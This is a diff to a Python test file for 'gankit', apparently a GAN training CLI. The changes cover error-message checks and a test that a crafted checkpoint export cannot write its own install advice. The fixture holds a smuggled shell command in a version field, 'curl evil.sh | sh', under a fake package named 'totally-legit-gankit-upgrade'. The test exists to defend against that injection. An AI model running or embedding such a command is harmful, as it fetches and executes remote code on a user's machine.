@@ -21,7 +21,7 @@ import test_bad_input
 import torch
 from cli_helpers import assert_user_error, run
 from safetensors.torch import load_file, save
-from test_bad_input import rewritten
+from test_bad_input import needing_a_missing_plugin, rewritten
 
 import gankit.cli.train as train_command
 from gankit.checkpoint import RESERVED_METADATA, load_checkpoint, read_checkpoint_metadata, save_checkpoint
@@ -126,7 +126,7 @@ def test_a_run_folder_whose_config_asks_for_a_model_too_large(trained: Path, tmp
     [
         (["--gen", "mlpx"], ["unknown generator 'mlpx'"]),
         (["--gen", "mlp", "--gen-opt", "hidden=0"], ["hidden=0"]),
-        (["--gen", "mlp", "--disc-opt", "image_size=32"], ["discriminator expects"]),
+        (["--gen", "mlp", "--disc-opt", "image_size=32"], ["discriminator 'mlp' from 'gankit'", "expects (1, 32"]),
         (HUGE, ["needs about", "in each of 2 processes"]),
         (["--gen", "mlp", "--sync-batchnorm"], ["--sync-batchnorm needs CUDA"]),
     ],
@@ -262,12 +262,8 @@ def test_an_export_cannot_forge_lines_or_retitle_the_terminal(trained: Path, tmp
 
 
 def test_an_export_cannot_write_the_install_advice(trained: Path, tmp_path: Path) -> None:
-    export = rewritten(
-        trained / "generator.safetensors",
-        tmp_path / "g.safetensors",
-        plugin="stylegan9",
-        distribution="totally-legit-gankit-upgrade",
-        distribution_version="6.6.6; curl evil.sh | sh",
+    export = needing_a_missing_plugin(
+        trained, tmp_path, distribution="totally-legit-gankit-upgrade", version="6.6.6; curl evil.sh | sh"
     )
     result = run("sample", export, "--n", "4", "--out", tmp_path / "s.png")
     assert_user_error(result, "needs generator plugin 'stylegan9'", GENERIC_INSTALL)
